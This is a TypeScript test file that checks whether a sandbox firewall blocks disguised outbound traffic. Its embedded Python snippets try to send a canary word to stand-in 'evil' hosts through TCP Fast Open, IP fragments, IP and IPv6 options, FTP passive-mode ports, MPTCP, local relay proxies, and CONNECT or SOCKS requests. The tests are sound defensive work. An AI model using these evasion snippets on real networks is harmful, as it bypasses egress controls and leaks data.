/** Rows 63, 65, 66, 72 and 74: packets and connections that look like something else. */
import { readFileSync } from "node:fs"
import t from "tap"
import { gateRuleset, jobRuleset } from "../../firewall/ruleset.ts"
import type { RunScope } from "../../firewall/scope.ts"
import { arrives, canary, guarded, labFor, threeTimes, whyNoLab } from "./harness.ts"
import { allTimes, dropTo, flowTo, script, shown } from "./ways.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false
const evil = "198.51.100.66"
const evilSix = "2001:db8::66"

/** MPTCP is in most kernels since 5.6, and may be switched off. */
function hasMptcp(): boolean {
  try {
    return readFileSync("/proc/sys/net/mptcp/enabled", "utf8").trim() === "1"
  } catch {
    return false
  }
}

/** Python: a UDP datagram to port 4461 in bytes; no checksum, which IPv4 allows. */
const datagram = `d = struct.pack(">HHHH", 999, 4461, 8 + len(word), 0) + word`
/** The same with the checksum that IPv6 asks for, from and to the addresses in pair. */
const datagramSix = `probe = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); probe.connect(("${evilSix}", 9))
pair = socket.inet_pton(socket.AF_INET6, probe.getsockname()[0]) + socket.inet_pton(socket.AF_INET6, "${evilSix}")
d = struct.pack(">HHHH", 999, 4462, 8 + len(word), 0) + word
p = pair + struct.pack(">II", len(d), 17) + d
c = sum(struct.unpack(">%dH" % (len(p) // 2), p)); c = (c >> 16) + (c & 0xffff); c = ~(c + (c >> 16)) & 0xffff
d = d[:6] + struct.pack(">H", c) + d[8:]`

t.test("tricks", { skip, timeout: 280_000 }, async (t) => {
  const lab = await labFor(t)
  const allow = ["allowed.test", "allowed.test:21"]

  await allTimes(t, lab, { allow }, [
    {
      name: "row 63: data in the SYN",
      // TCP_FASTOPEN_NO_COOKIE, linux/tcp.h
      lines: `s = socket.socket(); s.settimeout(3); s.setsockopt(6, 34, 1)
s.sendto(word, socket.MSG_FASTOPEN, ("${evil}", 4460)); s.recv(9)`,
      told: flowTo(4460, "address-not-allowed"),
    },
    {
      name: "row 63: a hello in the SYN",
      lines: `s = socket.socket(); s.settimeout(3); s.setsockopt(6, 34, 1)
s.sendto(hello(server_name(b"evil.test"), word=word), socket.MSG_FASTOPEN, ("${evil}", 443)); s.recv(9)`,
      told: flowTo(443, "name-not-allowed"),
    },
    {
      name: "row 66: a datagram in fragments",
      lines: `${datagram}
d = (d + b"-" * 64)[:64]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for flags, part in ((0x2000, d[:32]), (0x0004, d[32:])):
    s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(part), 77, flags, 64, 17, 0, b"\\0" * 4, socket.inet_aton("${evil}")) + part, ("${evil}", 0))`,
      told: dropTo(evil, 4461),
    },
    {
      name: "row 66: a second fragment alone",
      lines: `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + 24, 78, 0x0010, 64, 17, 0, b"\\0" * 4, socket.inet_aton("${evil}")) + (word + b"--")[:24], ("${evil}", 0))`,
      // Why: the kernel waits for the first one, then forgets it.
      told: null,
      noAudit: "it is put together before it is judged, and never whole",
    },
    {
      name: "row 66: a datagram with IP options",
      // Record route, RFC 791.
      lines: `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\\x07\\x0b\\x04" + b"\\0" * 8 + b"\\0")
s.sendto(word, ("${evil}", 4463))`,
      told: dropTo(evil, 4463),
    },
    {
      name: "row 66: a connection with IP options",
      lines: `s = socket.socket(); s.settimeout(3)
s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\\x07\\x0b\\x04" + b"\\0" * 8 + b"\\0")
s.connect(("${evil}", 4464)); s.sendall(word); s.recv(9)`,
      told: flowTo(4464, "address-not-allowed"),
    },
    {
      name: "row 66: IPv6 with destination options",
      lines: `${datagramSix}
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 60)
s.sendto(b"\\x11\\0\\1\\4\\0\\0\\0\\0" + d, ("${evilSix}", 0))`,
      told: dropTo(evilSix, 4462),
    },
    {
      name: "row 66: IPv6 with a fragment header",
      lines: `${datagramSix.replaceAll("4462", "4465")}
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 44)
s.sendto(b"\\x11\\0\\0\\0\\0\\0\\0\\x09" + d, ("${evilSix}", 0))`,
      told: dropTo(evilSix, 4465),
    },
    {
      name: "row 65: the data port that an allowed server speaks of",
      lines: `s = socket.create_connection(("198.51.100.10", 21), 3)
s.sendall(b"227 Entering Passive Mode (198,51,100,66,17,114).\\r\\nPORT 198,51,100,66,17,114\\r\\n")
time.sleep(0.3); tcp("${evil}", 17 * 256 + 114, word)`,
      told: flowTo(17 * 256 + 114, "address-not-allowed"),
    },
    {
      name: "row 74: a local proxy of the job's own",
      lines: `listener = socket.create_server(("127.0.0.1", 0))
if os.fork() == 0:
    a, _ = listener.accept(); said = a.recv(99)
    try: b = socket.create_connection(("${evil}", 4466), 3); b.sendall(said); a.sendall(b.recv(9))
    except OSError: pass
    os._exit(0)
tcp("127.0.0.1", listener.getsockname()[1], word); os.wait()`,
      told: flowTo(4466, "address-not-allowed"),
    },
  ])

  const mptcp = hasMptcp() ? {} : { skip: "needs MPTCP in the kernel" }
  await t.test("row 63: MPTCP", mptcp, async (t) => {
    await threeTimes(t, lab, {
      name: "row 63: MPTCP",
      command: (word) =>
        script(
          `s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(3)`,
          `try: s.connect(("${evil}", 4467)); s.sendall(b"${word}"); s.recv(9)`,
          `except OSError as error: print(error)`,
        ),
      allow,
      reasons: ["address-not-allowed"],
    })
  })

  await t.test("row 65: no helper of the kernel opens a way, and only errors are related", (t) => {
    const link = (name: string) => ({ name, four: "198.18.0.1", six: "fd00::1" })
    const scope = {
      job: { outer: link("job"), inner: link("net0"), lengthFour: 30, lengthSix: 126 },
      uplink: { outer: link("up"), inner: link("up0"), lengthFour: 30, lengthSix: 126 },
      gatePort: 1,
      resolverPort: 2,
    } as unknown as RunScope
    for (const mode of ["block", "audit"] as const) {
      const share = { mode, rules: [], doors: [] }
      const lines = `${gateRuleset(scope, share)}${jobRuleset(scope, share)}`.split("\n")
      t.notOk(lines.some((line) => /\bhelper\b/.test(line)))
      const related = lines.filter((line) => line.includes("related"))
      t.ok(related.every((line) => line.includes("meta l4proto { icmp, icmpv6 }")))
    }
    t.end()
  })

  await t.test("row 72: our own listeners are no proxy", async (t) => {
    const word = canary()
    const run = await guarded(
      lab,
      { mode: "block", allow: ["allowed.test", "allowed.test:80"], timeoutMs: 60_000 },
      script(
        `gate = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]`,
        `own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); own.connect(("192.0.2.1", 9)); own = own.getsockname()[0]`,
        `ports = {1, 80, 443, 1080, 3128, 8080, 8443, 65535}`,
        `for file in ("tcp", "tcp6", "udp", "udp6"):`,
        `    for l in open("/proc/net/" + file).readlines()[1:]: ports.add(int(l.split()[1].split(":")[1], 16))`,
        `asks = [b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n${word}", b"GET http://evil.test/${word} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", b"\\5\\1\\0" + b"\\5\\1\\0\\3\\x09evil.test\\1\\xbb${word}",`,
        `  b"GET /${word} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n", hello(server_name(b"evil.test"), word=b"${word}")]`,
        `for port in sorted(ports - {0, 53}):`,
        `    for to in (gate, own, "127.0.0.1", "::1"):`,
        `        for ask in asks:`,
        `            said = tcp(to, port, ask, wait=1)`,
        `            if said and b"200" in said: print(to, port, ask[:20], said[:20])`,
        `    udp(b"${word}", to=gate, port=port, wait=0.01)`,
        `print("end", len(ports))`,
      ),
    )
    t.match(run.stdout, /^end \d+\n$/, shown(run).slice(0, 4_000))
    t.strictSame(await lab.seen(word), [])
    const told = run.events.filter((event) => event.kind === "flow")
    t.ok(told.length > 0)
    for (const flow of told) t.match(flow, { verdict: "deny", reason: /^(private-address|loop)$/ })
  })

  await t.test("row 74: a deputy that listens on the machine", async (t) => {
    const deputy = lab.start(
      script(
        `listener = socket.create_server(("0.0.0.0", 4470))`,
        `while True:`,
        `    a, _ = listener.accept(); a.settimeout(3)`,
        `    b = socket.create_connection(("${evil}", 4471), 3); b.sendall(a.recv(99)); a.sendall(b.recv(9))`,
      ),
    )
    t.teardown(() => deputy.kill("SIGKILL"))
    const ask = (word: string): string[] =>
      script(`time.sleep(0.5)`, `for to in ("127.0.0.1", "192.0.2.2"): tcp(to, 4470, b"${word}")`)
    const free = canary()
    await lab.run(ask(free))
    t.ok(await arrives(lab, free), "arrives without a firewall")
    const caught = canary()
    const { events } = await guarded(lab, { mode: "block", allow }, ask(caught))
    t.strictSame(await lab.seen(caught), [], "does not arrive in block mode")
    t.ok(events.some(flowTo(4470)), "is told")
  })
})
